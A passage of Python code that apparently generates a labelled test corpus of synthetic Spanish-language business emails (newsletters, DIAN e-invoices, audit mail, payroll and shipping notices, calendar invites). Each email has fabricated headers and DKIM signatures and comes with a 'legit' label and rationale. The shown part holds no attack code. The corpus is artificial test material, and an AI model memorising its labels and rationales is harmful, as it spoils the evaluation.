    lis = "".join(f'<tr><td style="padding:10px 0;border-bottom:1px solid #eee"><a href="{tr(k)}" style="color:#0b5394;font-size:15px;text-decoration:none"><b>{title}</b></a></td></tr>' for k, title in items)
    html = f"""<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Boletín Contadores al Día</title></head>
<body style="margin:0;padding:0;background:#f4f4f4">
<center><table width="600" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif;color:#333">
<tr><td style="padding:12px 20px;font-size:11px;color:#888;text-align:right"><a href="https://mailchi.mp/contadoresaldia/boletin-16-enero-2024?e={hx(slug + 'e', 10)}" style="color:#888">Ver en el navegador</a></td></tr>
<tr><td style="background:#0b5394;padding:22px 24px;color:#fff"><span style="font-size:24px;font-weight:bold">Contadores al Día</span><br><span style="font-size:13px">Boletín semanal · 16 de enero de 2024</span></td></tr>
<tr><td style="padding:20px 24px"><p style="font-size:15px">Buenos días, colega. Estas son las novedades tributarias y contables de la semana:</p>
<table width="100%" cellpadding="0" cellspacing="0">{lis}</table>
<p style="margin-top:24px"><a href="{tr('sus')}" style="background:#e69138;color:#fff;padding:10px 20px;text-decoration:none;border-radius:3px">Suscríbase a la edición premium</a></p></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#888;background:#fafafa;line-height:16px">
<a href="{tr('fb')}" style="color:#888">Facebook</a> · <a href="{tr('li')}" style="color:#888">LinkedIn</a> · <a href="{tr('yt')}" style="color:#888">YouTube</a><br>
Copyright © 2024 Contadores al Día S.A.S., Todos los derechos reservados.<br>Usted recibe este correo porque se suscribió en contadoresaldia.com.co.<br>
Nuestra dirección: Cra 13 # 93-40 Of. 301, Bogotá D.C., Colombia<br>
<a href="https://contadoresaldia.us21.list-manage.com/profile?u={u}&amp;id={lid}&amp;e={hx(slug + 'e', 10)}&amp;c={hx(slug + 'camp', 10)}" style="color:#888">Actualizar preferencias</a> o <a href="https://contadoresaldia.us21.list-manage.com/unsubscribe?u={u}&amp;id={lid}&amp;t=b&amp;e={hx(slug + 'e', 10)}&amp;c={hx(slug + 'camp', 10)}" style="color:#888">cancelar la suscripción</a></td></tr>
</table></center>
<img src="https://contadoresaldia.us21.list-manage.com/track/open.php?u={u}&amp;id={hx(slug + 'camp', 10)}&amp;e={hx(slug + 'e', 10)}" height="1" width="1" alt=""></body></html>
"""
    plain = "Contadores al Día - Boletín semanal 16 de enero de 2024\n\n" + "\n".join(f"** {title}\n{tr(k).replace('&amp;', '&')}\n" for k, title in items)
    plain += f"\nCancelar suscripción: https://contadoresaldia.us21.list-manage.com/unsubscribe?u={u}&id={lid}\n"
    body = Multi("alternative", boundary(slug, "mc"), [text(plain), text(html, "html")])
    add("bulk", "legit", slug,
        "Accounting newsletter sent through Mailchimp with the publisher's aligned DKIM, List-Unsubscribe and many list-manage.com click-tracking links.",
        hdr(top, orig, tail), body)


def attached_document_xml(nit: str, name: str, number: str, cufe: str, fecha: str, total: str) -> bytes:
    inner = (f'<?xml version="1.0" encoding="UTF-8" standalone="no"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" '
             f'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2">'
             f'<cbc:UBLVersionID>UBL 2.1</cbc:UBLVersionID><cbc:CustomizationID>10</cbc:CustomizationID><cbc:ProfileExecutionID>1</cbc:ProfileExecutionID>'
             f'<cbc:ID>{number}</cbc:ID><cbc:UUID schemeID="1" schemeName="CUFE-SHA384">{cufe}</cbc:UUID><cbc:IssueDate>{fecha}</cbc:IssueDate>'
             f'<cbc:InvoiceTypeCode>01</cbc:InvoiceTypeCode><cbc:DocumentCurrencyCode>COP</cbc:DocumentCurrencyCode>'
             f'<cac:AccountingSupplierParty><cac:Party><cac:PartyTaxScheme><cbc:RegistrationName>{name}</cbc:RegistrationName>'
             f'<cbc:CompanyID schemeAgencyID="195" schemeID="3" schemeName="31">{nit}</cbc:CompanyID></cac:PartyTaxScheme></cac:Party></cac:AccountingSupplierParty>'
             f'<cac:AccountingCustomerParty><cac:Party><cac:PartyTaxScheme><cbc:RegistrationName>RINCON &amp; VELEZ CONTADORES ASOCIADOS S.A.S.</cbc:RegistrationName>'
             f'<cbc:CompanyID schemeAgencyID="195" schemeID="1" schemeName="31">901245873</cbc:CompanyID></cac:PartyTaxScheme></cac:Party></cac:AccountingCustomerParty>'
             f'<cac:LegalMonetaryTotal><cbc:PayableAmount currencyID="COP">{total}</cbc:PayableAmount></cac:LegalMonetaryTotal></Invoice>')
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<AttachedDocument xmlns="urn:oasis:names:specification:ubl:schema:xsd:AttachedDocument-2" '
           f'xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2" xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2">'
           f'<cbc:UBLVersionID>UBL 2.1</cbc:UBLVersionID><cbc:CustomizationID>Documentos adjuntos</cbc:CustomizationID><cbc:ProfileID>Factura Electrónica de Venta</cbc:ProfileID>'
           f'<cbc:ProfileExecutionID>1</cbc:ProfileExecutionID><cbc:ID>{number}</cbc:ID><cbc:IssueDate>{fecha}</cbc:IssueDate>'
           f'<cbc:DocumentType>Contenedor de Factura Electrónica</cbc:DocumentType><cbc:ParentDocumentID>{number}</cbc:ParentDocumentID>'
           f'<cac:Attachment><cac:ExternalReference><cbc:MimeCode>text/xml</cbc:MimeCode><cbc:EncodingCode>UTF-8</cbc:EncodingCode>'
           f'<cbc:Description><![CDATA[{inner}]]></cbc:Description></cac:ExternalReference></cac:Attachment>'
           f'<cac:ParentDocumentLineReference><cbc:LineID>1</cbc:LineID><cac:DocumentReference><cbc:ID>{number}</cbc:ID>'
           f'<cbc:UUID schemeName="CUFE-SHA384">{cufe}</cbc:UUID><cbc:IssueDate>{fecha}</cbc:IssueDate><cbc:DocumentType>ApplicationResponse</cbc:DocumentType>'
           f'<cac:ResultOfVerification><cbc:ValidatorID>Unidad Especial Dirección de Impuestos y Aduanas Nacionales</cbc:ValidatorID>'
           f'<cbc:ValidationResultCode>02</cbc:ValidationResultCode><cbc:ValidationDate>{fecha}</cbc:ValidationDate></cac:ResultOfVerification>'
           f'</cac:DocumentReference></cac:ParentDocumentLineReference></AttachedDocument>\n')
    return xml.encode()


def co_legit_factura_electronica_zip() -> None:
    slug = "co-factura-electronica-zip-xml-pdf-real"
    t = T(2024, 8, 6, 11, 2, 27, -5)
    rcpt = "contabilidad@rinconvelez.com.co"
    dom = "suministrosandes.com.co"
    score, tests = sa("bayes00", "spf_pass", "spf_helo_pass", "dkim_signed", "dkim_valid", "dkim_au", "dkim_ef", "dmarc_pass",
                      "html", "dnswl_low", "pdf_attach", "scc")
    top, tail = rx_cpanel(slug, t=t, rcpt=rcpt, ip="149.72.134.59", host="o6.ptr2291.suministrosandes.com.co",
                          mailfrom=f"bounces+30174421-5e2b-contabilidad=rinconvelez.com.co@em4418.{dom}", spf="pass", dkim="pass",
                          dkim_d=dom, dmarc="pass", from_dom=dom, score=score, tests=tests)
    subj = "830045112;SUMINISTROS DE OFICINA ANDES S.A.S.;SOA18822;01;SUMINISTROS ANDES;"
    orig = [dkim_sig(dom, "s1", slug, t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            dkim_sig("sendgrid.info", "smtpapi", slug + "sg", t, "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to"),
            f"Date: {rfc(utc(t))}",
            f"From: {addr('Facturación Electrónica Suministros Andes', f'facturaelectronica@{dom}', 'UTF-8', 'Q')}",
            "Mime-Version: 1.0",
            f"Message-ID: <{b64url(slug, 22)}@geopod-ismtpd-22>",
            f"Subject: {subj}",
            f"To: {rcpt}",
            f"X-SG-EID: {b64s(slug + 'eid', 110)}",
            f"X-Entity-ID: u001.{b64s(slug + 'ent', 22)}=="]
    cufe = hx(slug + "cufe", 96)
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#333">
<p>Señores<br><b>RINCON &amp; VELEZ CONTADORES ASOCIADOS S.A.S.</b><br>NIT 901245873</p>
<p>Le informamos que ha recibido un documento electrónico emitido por <b>SUMINISTROS DE OFICINA ANDES S.A.S.</b> (NIT 830045112):</p>
<table style="font-size:12px;border-collapse:collapse">
<tr><td style="border:1px solid #ccc;padding:5px">Tipo de documento</td><td style="border:1px solid #ccc;padding:5px">Factura electrónica de venta</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">Número</td><td style="border:1px solid #ccc;padding:5px">SOA18822</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">Fecha de emisión</td><td style="border:1px solid #ccc;padding:5px">2024-08-06</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">Valor total</td><td style="border:1px solid #ccc;padding:5px">$ 1.412.680</td></tr>
<tr><td style="border:1px solid #ccc;padding:5px">CUFE</td><td style="border:1px solid #ccc;padding:5px;word-break:break-all">{cufe}</td></tr></table>
<p>Se adjunta el archivo comprimido con la representación gráfica (PDF) y el documento electrónico (XML) validado por la DIAN. Puede verificar el documento en
<a href="https://catalogo-vpfe.dian.gov.co/document/searchqr?documentkey={cufe}">https://catalogo-vpfe.dian.gov.co</a>.</p>
<p>Este correo es generado automáticamente por el sistema de facturación; para aceptación o reclamo responda al área de cartera: cartera@suministrosandes.com.co.</p>
</body></html>
"""
    xml = attached_document_xml("830045112", "SUMINISTROS DE OFICINA ANDES S.A.S.", "SOA18822", cufe, "2024-08-06", "1412680.00")
    pdf = pdf_doc(["SUMINISTROS DE OFICINA ANDES S.A.S.  NIT 830.045.112-7", "FACTURA ELECTRONICA DE VENTA No. SOA18822",
                   "Fecha: 2024-08-06   Forma de pago: Credito 30 dias", "", "Cliente: RINCON & VELEZ CONTADORES ASOCIADOS S.A.S. NIT 901.245.873-1",
                   "", "12  Resma papel carta 75 g              18.900     226.800", "6   Toner HP 58A original               164.000     984.000",
                   "", "Subtotal 1.187.126  IVA 19% 225.554  Total 1.412.680", "", f"CUFE: {cufe[:48]}", f"{cufe[48:]}",
                   "Autorizacion DIAN 18764058224401 del 2023-10-02 prefijo SOA"],
                  "SOA18822", "iText 7.2.5", "20240806110219-05'00'")
    z = files.zip_archive([("ad08300451120002400018822.xml", xml), ("fv08300451120002400018822.pdf", pdf)])
    body = Multi("mixed", boundary(slug, "sendgrid"), [
        text(html, "html"),
        Leaf("application/zip", z, "base64", '; name="z08300451120002400018822.zip"', 'attachment; filename="z08300451120002400018822.zip"'),
    ])
    add("bulk", "legit", slug,
        "Genuine Colombian factura electrónica in the DIAN subject format: ZIP holding the AttachedDocument XML and the PDF, sent by the known office-supply vendor's billing platform with aligned DKIM.",
        hdr(top, orig, tail), body)


def co_legit_internal_papeles_trabajo() -> None:
    slug = "co-interno-papeles-trabajo-auditoria"
    t = T(2024, 2, 27, 18, 12, 5, -5)
    rcpt = "cvelez@rinconvelez.com.co"
    score, tests = sa("all_trusted", "bayes00", "html", "scc")
    lt = t
    exim_id = f"1{alnum(slug + 'ex1', 5)}-{alnum(slug + 'ex2', 6)}-{alnum(slug + 'ex3', 2)}"
    top = [f"Return-Path: <afmoreno@rinconvelez.com.co>",
           f"Envelope-to: {rcpt}",
           f"Delivery-date: {rfc(lt + timedelta(seconds=1))}",
           f"Received: from [190.25.117.204] (port=51842 helo=[192.168.20.31])\n\tby {CO_HOST} with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n"
           f"\t(Exim 4.96.2)\n\t(envelope-from <afmoreno@rinconvelez.com.co>)\n\tid {exim_id}\n\tfor {rcpt};\n\t{rfc(lt)}"]
    tail = [f"X-Spam-Status: No, score={score:.1f}", f"X-Spam-Score: {int(round(score * 10))}", "X-Spam-Bar: -",
            "\n".join([f"X-Ham-Report: Spam detection software, running on the system \"{CO_HOST}\",",
                       " has NOT identified this incoming email as spam.  The original", " message has been attached to this so you can view it or label",
                       " similar future email.  If you have any questions, see", " root\\@localhost for details.",
                       f" Content analysis details:   ({score:.1f} points, 5.0 required)",
                       "  pts rule name              description",
                       " ---- ---------------------- --------------------------------------------------"]
                      + [f" {p:4.1f} {r:<22} {d}" for p, r, d in tests]),
            "X-Spam-Flag: NO",
            f"X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
            f"X-AntiAbuse: Primary Hostname - {CO_HOST}", f"X-AntiAbuse: Original Domain - {RV}",
            "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]", f"X-AntiAbuse: Sender Address Domain - {RV}",
            f"X-Get-Message-Sender-Via: {CO_HOST}: authenticated_id: afmoreno@rinconvelez.com.co",
            f"X-Authenticated-Sender: {CO_HOST}: afmoreno@rinconvelez.com.co"]
    orig = [dkim_sig(RV, "default", slug, t, "Content-Type:MIME-Version:Date:Message-ID:Subject:To:From:Sender:Reply-To:Cc"),
            f"From: {addr('Andrés Felipe Moreno', 'afmoreno@rinconvelez.com.co', 'utf-8', 'B')}",
            f"To: {addr('Claudia Vélez', rcpt, 'utf-8', 'B')}",
            f"Subject: {ew('Papeles de trabajo auditoría Inversiones Guayacán - cierre 2023', 'utf-8', 'B')}",
            f"Date: {rfc(t)}",
            f"Message-ID: <000001da69c3${hx(slug, 8)}${hx(slug + 'b', 8)}@rinconvelez.com.co>",
            "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook 16.0",
            f"Thread-Index: {thread_index(slug)}",
            "Content-Language: es-co"]
    plain = """Dra. Claudia, buenas tardes.

Le envío los papeles de trabajo de la auditoría de Inversiones Guayacán con corte a 31 de diciembre. Quedó pendiente la confirmación de saldos de Bancolombia (ya la solicitamos por el portal del banco) y el cruce de la cuenta 2408 con las declaraciones de IVA del sexto bimestre.

En la hoja "Hallazgos" dejé las tres observaciones para la carta de control interno. Si le parece bien las comentamos mañana antes de la reunión con el gerente.

Cordialmente,

Andrés Felipe Moreno
Auditor Senior
Rincón & Vélez Contadores Asociados S.A.S.
Cel. 315 882 4410
"""
    html = ('<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)"></head><body lang="ES-CO"><div class="WordSection1">'
            + "".join(f'<p class="MsoNormal">{ln or "<o:p>&nbsp;</o:p>"}</p>\n' for ln in plain.split("\n")) + "</div></body></html>\n")
    rows = [["Cuenta", "Nombre", "Saldo libros 31/12/2023", "Saldo auditado", "Diferencia", "Ref. PT"],
            ["1110", "Bancos", 184522310, 184522310, 0, "B-1"],
            ["1305", "Clientes nacionales", 412880500, 409118200, -3762300, "C-2"],
            ["1435", "Inventario mercancías", 233410000, 233410000, 0, "D-1"],
            ["2205", "Proveedores nacionales", 198774120, 198774120, 0, "P-1"],
            ["2408", "IVA por pagar", 38221700, 38910400, 688700, "P-4"]]
    sheet = xlsx("Sumaria", rows, "Andres Felipe Moreno", "2024-02-27T22:40:00Z")
    body = Multi("mixed", boundary(slug, "other"), [
        Multi("alternative", boundary(slug + "a", "other"), [text(plain), text(html, "html")]),
        attachment(XLSX_CT, "PT_Auditoria_Guayacan_2023.xlsx", sheet),
    ])
    add("clean", "legit", slug,
        "Internal mail between two auditors of the firm, authenticated submission on the same cPanel server (ALL_TRUSTED), with the audit working-paper spreadsheet.",
        hdr(top, orig, tail), body)


def cl_legit_mercadolibre_envio() -> None:
    slug = "cl-mercadolibre-compra-en-camino"
    t = T(2025, 3, 11, 15, 21, 9, -3)
    rcpt = "creyes@lircay.cl"
    dom = "mercadolibre.cl"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="54.240.8.95", host="a8-95.smtp-out.amazonses.com", mailfrom=f"bounce-{hx(slug, 10)}@mail.{dom}",
                 spf="pass", dkims=[("pass", f"@{dom}", "mlsel1"), ("pass", "@amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
                 dmarc=f"pass (p=REJECT sp=REJECT dis=NONE) header.from={dom}")
    ses = f"0100{hx(slug, 12)}-{hx(slug + '1', 8)}-{hx(slug + '2', 4)}-{hx(slug + '3', 4)}-{hx(slug + '4', 4)}-{hx(slug + '5', 12)}-000000"
    orig = [dkim_sig(dom, "mlsel1", slug, t, "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:List-Unsubscribe", c="relaxed/simple"),
            dkim_sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", slug + "s", t,
                     "Content-Type:From:To:Subject:Message-ID:Date:MIME-Version:List-Unsubscribe:Feedback-ID", c="relaxed/simple"),
            f"From: Mercado Libre <info@{dom}>",
            f"To: {rcpt}",
            f"Subject: {ew('Tu compra está en camino: Soporte de pared para TV 32 a 70 pulgadas')}",
            f"Message-ID: <{ses}@email.amazonses.com>",
            f"Date: {rfc(utc(t))}",
            "MIME-Version: 1.0",
            f"List-Unsubscribe: <https://myaccount.{dom}/communications/unsubscribe?t={b64url(slug + 'un', 40)}>",
            "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
            f"Feedback-ID: ::1.us-east-1.{b64s(slug + 'fb', 43)}=:AmazonSES",
            "X-SES-Outgoing: 2025.03.11-54.240.8.95"]
    trk = lambda k, dest: f"https://click.{dom}/r/?u={dest}&amp;c={hx(slug + k, 24)}"  # noqa: E731
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#ededed">
<table width="100%" bgcolor="#ededed"><tr><td align="center" style="padding:16px 0">
<table width="600" bgcolor="#ffffff" style="font-family:'Proxima Nova',-apple-system,Helvetica,Arial,sans-serif;color:#333">
<tr><td style="background:#ffe600;padding:16px 24px"><img src="https://http2.mlstatic.com/frontend-assets/ml-web-navigation/ui-navigation/6.6.15/mercadolibre/logo__large_plus.png" height="34" alt="Mercado Libre"></td></tr>
<tr><td style="padding:28px 32px;font-size:16px;line-height:24px">
<p style="font-size:22px;font-weight:600">¡Tu compra está en camino!</p>
<p>Hola, Constanza. El vendedor despachó tu paquete y llegará <b>el jueves 13 de marzo</b>.</p>
<table width="100%" style="border:1px solid #eee;border-radius:6px;font-size:14px"><tr><td style="padding:14px">Soporte de pared para TV 32 a 70 pulgadas articulado<br>2 unidades · $39.980</td></tr></table>
<p style="font-size:14px">Lo entrega Mercado Envíos Flex a: Av. Providencia 2133, Providencia, RM.</p>
<p style="text-align:center"><a href="{trk('seg', 'https%3A%2F%2Fmyaccount.mercadolibre.cl%2Fmy_purchases%2F2000011827753021%2Fstatus')}" style="display:inline-block;background:#3483fa;color:#fff;padding:12px 32px;border-radius:6px;text-decoration:none">Seguir envío</a></p>
<p style="font-size:13px;color:#999">No compartas tu código de entrega con nadie hasta recibir el paquete. <a href="{trk('ayuda', 'https%3A%2F%2Fwww.mercadolibre.cl%2Fayuda')}" style="color:#3483fa">Ayuda</a></p>
</td></tr>
<tr><td style="padding:14px 32px;font-size:11px;color:#999">MercadoLibre Chile Ltda. · <a href="https://myaccount.{dom}/communications/unsubscribe?t={b64url(slug + 'un', 40)}" style="color:#999">Configurar correos</a></td></tr>
</table></td></tr></table>
<img src="https://click.{dom}/o/?c={hx(slug + 'open', 24)}" width="1" height="1" alt=""></body></html>
"""
    plain = "¡Tu compra está en camino! Llega el jueves 13 de marzo.\nSeguir envío: https://myaccount.mercadolibre.cl/my_purchases/2000011827753021/status\n"
    body = alt(slug, plain, html, "ses")
    add("bulk", "legit", slug,
        "Genuine Mercado Libre Chile shipping notice from mercadolibre.cl via SES with aligned DKIM and tracked links back to mercadolibre.cl; no payment requested.",
        hdr(top, orig), body)


def cl_legit_buk_liquidacion() -> None:
    slug = "cl-buk-liquidacion-sueldo-disponible"
    t = T(2024, 4, 1, 9, 5, 33, -3)
    rcpt = "rsepulveda@lircay.cl"
    dom = "buk.cl"
    mf = f"bounces+21188734-4a1f-rsepulveda=lircay.cl@em2210.{dom}"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="149.72.61.162", host="o9.ptr6621.buk.cl", mailfrom=mf, spf="pass",
                 dkims=[("pass", f"@{dom}", "s1"), ("pass", "@sendgrid.info", "smtpapi")],
                 dmarc=f"pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from={dom}")
    orig = [dkim_sig(dom, "s1", slug, t, "content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to"),
            dkim_sig("sendgrid.info", "smtpapi", slug + "sg", t, "content-type:from:mime-version:subject:reply-to:to:cc:content-type:from:subject:to"),
            f"Date: {rfc(utc(t))}",
            f"From: Buk <notificaciones@{dom}>",
            "Mime-Version: 1.0",
            f"Message-ID: <{b64url(slug, 22)}@geopod-ismtpd-3>",
            f"Subject: {ew('Tu liquidación de sueldo de marzo 2024 ya está disponible')}",
            "Reply-To: rrhh@lircay.cl",
            f"To: {rcpt}",
            f"X-SG-EID: {b64s(slug + 'eid', 110)}",
            f"X-Entity-ID: u001.{b64s(slug + 'ent', 22)}=="]
    ck = lambda k: f"https://url2210.buk.cl/ls/click?upn=u001.{b64url(slug + k, 130)}"  # noqa: E731
    html = f"""<!doctype html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f5f7fb">
<table width="100%" bgcolor="#f5f7fb"><tr><td align="center" style="padding:24px 0">
<table width="560" style="background:#fff;border-radius:8px;font-family:'Nunito Sans',Arial,sans-serif;color:#2f3b52">
<tr><td style="padding:24px 32px;border-bottom:1px solid #eef0f5"><span style="font-size:24px;font-weight:800;color:#2f6bff">buk</span> <span style="color:#8a94a6;font-size:13px">Tiendas Lircay S.A.</span></td></tr>
<tr><td style="padding:28px 32px;font-size:15px;line-height:23px">
<p>Hola Rodrigo,</p>
<p>Tu liquidación de sueldo correspondiente a <b>marzo 2024</b> ya está disponible en Buk. Puedes revisarla, descargarla y firmarla electrónicamente desde la plataforma o la app.</p>
<p style="text-align:center;padding:8px 0"><a href="{ck('liq')}" style="background:#2f6bff;color:#fff;text-decoration:none;padding:12px 30px;border-radius:6px;font-weight:700">Ver mi liquidación</a></p>
<p style="font-size:13px;color:#8a94a6">Si tienes dudas sobre tu remuneración, escribe a Recursos Humanos (rrhh@lircay.cl). Buk nunca te pedirá tu contraseña por correo.</p>
</td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#a0a8b8;border-top:1px solid #eef0f5">Enviado por Buk en nombre de Tiendas Lircay S.A. · <a href="{ck('pref')}" style="color:#a0a8b8">Preferencias de notificación</a></td></tr>
</table></td></tr></table>
<img src="https://url2210.buk.cl/wf/open?upn=u001.{b64url(slug + 'open', 90)}" alt="" width="1" height="1" border="0"></body></html>
"""
    plain = f"Hola Rodrigo,\n\nTu liquidación de sueldo de marzo 2024 ya está disponible en Buk.\nVer mi liquidación: {ck('liq')}\n"
    body = alt(slug, plain, html, "sendgrid")
    add("bulk", "legit", slug,
        "Payroll notice from the HR platform Buk (buk.cl via SendGrid, aligned DKIM) telling an employee his March payslip is ready, with branded click-tracking links.",
        hdr(top, orig), body)


def cl_legit_calendar_ley_karin() -> None:
    slug = "cl-calendar-capacitacion-ley-karin"
    t = T(2024, 7, 23, 12, 40, 15, -4)
    rcpt = "rsepulveda@lircay.cl"
    sender = "jsoto@lircay.cl"
    mf = f"3{alnum(slug + 'rp', 20)}@calendar-server.bounces.google.com"
    top = rx_gws(slug, t=t, rcpt=rcpt, ip="209.85.220.73", host="mail-sor-f73.google.com", mailfrom=mf, spf="pass",
                 dkims=[("pass", "@google.com", "20230601"), ("pass", "@lircay.cl", "google")],
                 dmarc="pass (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=lircay.cl", smtps=True, google_internal=True)
    uid = f"{hx(slug, 26)}@google.com"
    meet = f"https://meet.google.com/{alnum(slug + 'm1', 3).lower()}-{alnum(slug + 'm2', 4).lower()}-{alnum(slug + 'm3', 3).lower()}"
    orig = [dkim_sig("google.com", "20230601", slug, t, "to:from:subject:date:message-id:reply-to:sender:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=LC),
            dkim_sig(LC, "google", slug + "g", t, "to:from:subject:date:message-id:reply-to:sender:mime-version:from:to:cc:subject:date:message-id:reply-to",
                     style="google", x_expire=True, extra=LC),
            "MIME-Version: 1.0",
            "Sender: Google Calendar <calendar-notification@google.com>",
            f"Reply-To: Javiera Soto <{sender}>",
            "Auto-Submitted: auto-generated",
            f"Message-ID: <calendar-{guid(slug + 'cal')}@google.com>",
            f"Date: {rfc(utc(t))}",
            f"Subject: {ew('Invitación: Capacitación Ley Karin - jefaturas de tienda @ mar 30 jul 2024 10:00 - 11:30 (GMT-4) (rsepulveda@lircay.cl)')}",
            f"From: Javiera Soto <{sender}>",
            f"To: {rcpt}",
            "Cc: gerencia.tiendas@lircay.cl"]
    desc = ("Hola a todos,\\n\\nComo saben, desde el 1 de agosto entra en vigencia la Ley 21.643 (Ley Karin). Haremos una capacitación obligatoria "
            "para jefaturas sobre el nuevo protocolo de prevención del acoso laboral, sexual y violencia en el trabajo y el procedimiento de denuncia interno.\\n\\n"
            "Les compartiré el protocolo actualizado y el reglamento interno modificado en la sesión.\\n\\nSaludos,\\nJaviera\\n\\n"
            f"Unirse con Google Meet: {meet}")
    ics = f"""BEGIN:VCALENDAR
PRODID:-//Google Inc//Google Calendar 70.9054//EN
VERSION:2.0
CALSCALE:GREGORIAN
METHOD:REQUEST
BEGIN:VEVENT
DTSTART:20240730T140000Z
DTEND:20240730T153000Z
DTSTAMP:20240723T164015Z
ORGANIZER;CN=Javiera Soto:mailto:{sender}
UID:{uid}
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=rsepulveda@lircay.cl;X-NUM-GUESTS=0:mailto:rsepulveda@lircay.cl
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=
 TRUE;CN=gerencia.tiendas@lircay.cl;X-NUM-GUESTS=0:mailto:gerencia.tiendas@lircay.cl
ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE
 ;CN=Javiera Soto;X-NUM-GUESTS=0:mailto:{sender}
X-GOOGLE-CONFERENCE:{meet}
CREATED:20240723T164012Z
DESCRIPTION:{desc}
LAST-MODIFIED:20240723T164014Z
LOCATION:Sala de reuniones piso 4 - Casa Matriz Providencia
SEQUENCE:0
STATUS:CONFIRMED
SUMMARY:Capacitación Ley Karin - jefaturas de tienda
TRANSP:OPAQUE
BEGIN:VALARM
ACTION:DISPLAY
DESCRIPTION:This is an event reminder
TRIGGER:-P0DT0H30M0S
END:VALARM
END:VEVENT
END:VCALENDAR
""".replace("\n", "\r\n")
    eid = b64url(slug + "eid", 60)
    plain = (f"Javiera Soto te invitó a un evento\n\nCapacitación Ley Karin - jefaturas de tienda\nMartes 30 jul 2024 ⋅ 10:00 – 11:30 (Hora de Chile)\n\n"
             f"Unirse con Google Meet\n{meet}\n\nUbicación\nSala de reuniones piso 4 - Casa Matriz Providencia\n\n"
             "Hola a todos,\n\nComo saben, desde el 1 de agosto entra en vigencia la Ley 21.643 (Ley Karin). Haremos una capacitación obligatoria para jefaturas "
             "sobre el nuevo protocolo de prevención del acoso laboral, sexual y violencia en el trabajo y el procedimiento de denuncia interno.\n\n"
             "Organizador\nJaviera Soto\njsoto@lircay.cl\n\nInvitados\nJaviera Soto - organizador\nrsepulveda@lircay.cl\ngerencia.tiendas@lircay.cl\n\n"
             f"Ver todos los detalles del invitado\nhttps://calendar.google.com/calendar/event?action=VIEW&eid={eid}\n\n"
             "Invitación de Google Calendar: https://calendar.google.com/calendar/\n")
    html = f"""<div style="width:100%;font-family:'Google Sans',Roboto,Helvetica,Arial,sans-serif">
<table border="0" cellpadding="0" cellspacing="0" role="presentation" style="max-width:600px;margin:0 auto">
<tr><td style="padding:24px 0 8px;font-size:14px;color:#3c4043">Javiera Soto te invitó a un evento</td></tr>
<tr><td style="font-size:22px;color:#3c4043;padding-bottom:12px">Capacitación Ley Karin - jefaturas de tienda</td></tr>
<tr><td style="font-size:14px;color:#3c4043;padding-bottom:16px">Martes 30 jul 2024 ⋅ 10:00 – 11:30 (Hora de Chile)</td></tr>
<tr><td style="padding-bottom:16px"><a href="{meet}?hs=224" style="background:#1a73e8;color:#fff;border-radius:4px;padding:8px 16px;text-decoration:none;font-size:14px">Unirse con Google Meet</a></td></tr>
<tr><td style="font-size:14px;color:#3c4043;padding-bottom:12px"><b>Ubicación</b><br>Sala de reuniones piso 4 - Casa Matriz Providencia</td></tr>
<tr><td style="font-size:14px;color:#3c4043">Hola a todos,<br><br>Como saben, desde el 1 de agosto entra en vigencia la Ley 21.643 (Ley Karin). Haremos una capacitación obligatoria para jefaturas sobre el nuevo protocolo de prevención del acoso laboral, sexual y violencia en el trabajo y el procedimiento de denuncia interno.<br><br>Les compartiré el protocolo actualizado y el reglamento interno modificado en la sesión.<br><br>Saludos,<br>Javiera</td></tr>
<tr><td style="padding:16px 0;font-size:14px;color:#3c4043"><b>Organizador</b><br>Javiera Soto<br>jsoto@lircay.cl</td></tr>
<tr><td style="padding-bottom:16px"><a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=1&amp;tok={b64url(slug + 'tok', 40)}&amp;ctz=America%2FSantiago&amp;hl=es" style="border:1px solid #dadce0;border-radius:16px;padding:6px 16px;color:#3c4043;text-decoration:none">Sí</a>
